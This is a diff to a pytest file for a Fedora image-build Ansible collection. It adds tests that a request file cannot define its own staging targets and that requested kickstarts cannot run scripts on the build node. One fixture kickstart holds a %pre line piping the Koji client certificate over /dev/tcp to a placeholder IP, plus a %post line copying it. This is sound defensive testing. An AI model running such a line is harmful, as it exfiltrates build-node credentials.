@@ -186,3 +186,40 @@ def test_awx_batch_answer_cannot_expand_into_a_billion_values():
     assert str(info.value).startswith('fb_requests: aliases expand to more than 100000 values'), str(info.value)
     ok = survey_batch._survey_batch(billion_laughs(levels=1, width=3))  # pylint: disable=protected-access
     assert ok[0]['koji']['tag_latest_1'] == [['hello-2.0-1.fc41']] * 3
+
+
+def test_cli_request_file_sets_no_operator_variable(tmp_path, capsys):
+    """A request file is the requester's: besides the requests, its top-level variables (an attempt to turn on
+    request-defined destinations or to define a staging target) are not read, so the request's own staging
+    mapping is refused as with no such file."""
+    req = tmp_path / 'request.yml'
+    req.write_text('fedora_build_allow_request_destinations: true\n'
+                   'fedora_build_staging_targets: {mine: {type: local, path: /tmp/mine}}\n'
+                   'fedora_build_requests:\n'
+                   '  - {image_type: boot, release: "41", arch: x86_64, staging: [{type: local, path: /tmp/mine}]}\n')
+    code = cli_main.main(['--status-dir', str(tmp_path / 'status'), 'validate', str(req)])
+    err = capsys.readouterr().err
+    assert code == cli_errors.FAILED, err
+    assert 'requests[0].staging[0]: a request cannot define its own staging target here' in err, err
+
+
+@pytest.mark.xfail(strict=True, reason='Hole (design): a requested kickstart keeps %pre and %post --nochroot, which '
+                                       'livemedia-creator --no-virt (anaconda on the node) runs as root on the build '
+                                       'node; chroot %post and RPM scriptlets of request-chosen repos or Koji scratch '
+                                       'builds run as root in a chroot too. Needs isolation (a VM per build) or a '
+                                       'kickstart module policy; see docs/security.md, Known gaps.')
+def test_a_requested_kickstart_runs_no_script_on_the_build_node(tmp_path):
+    """The build node's files (the Koji client certificate and keytab the build_node role installs, SSH host keys)
+    are not the requester's: a requested kickstart may not carry scripts that run on the node itself."""
+    from ansible_collections.ondemand.fedora_build.plugins.module_utils import kickstart as ks  # pylint: disable=import-outside-toplevel
+    from ansible_collections.ondemand.fedora_build.plugins.module_utils.errors import FedoraBuildError  # pylint: disable=import-outside-toplevel
+    from support.skips import require_module  # pylint: disable=import-outside-toplevel
+
+    require_module('pykickstart')
+    src = tmp_path / 'live.ks'
+    src.write_text('lang en_US.UTF-8\nkeyboard us\n'
+                   '%pre\ncat /etc/pki/koji/client.pem > /dev/tcp/198.51.100.7/80\n%end\n'
+                   '%post --nochroot\ncp /etc/pki/koji/client.pem $INSTALL_ROOT/root/\n%end\n')
+    with pytest.raises(FedoraBuildError) as info:
+        ks.prepare(str(src))
+    assert '%pre' in info.value.msg
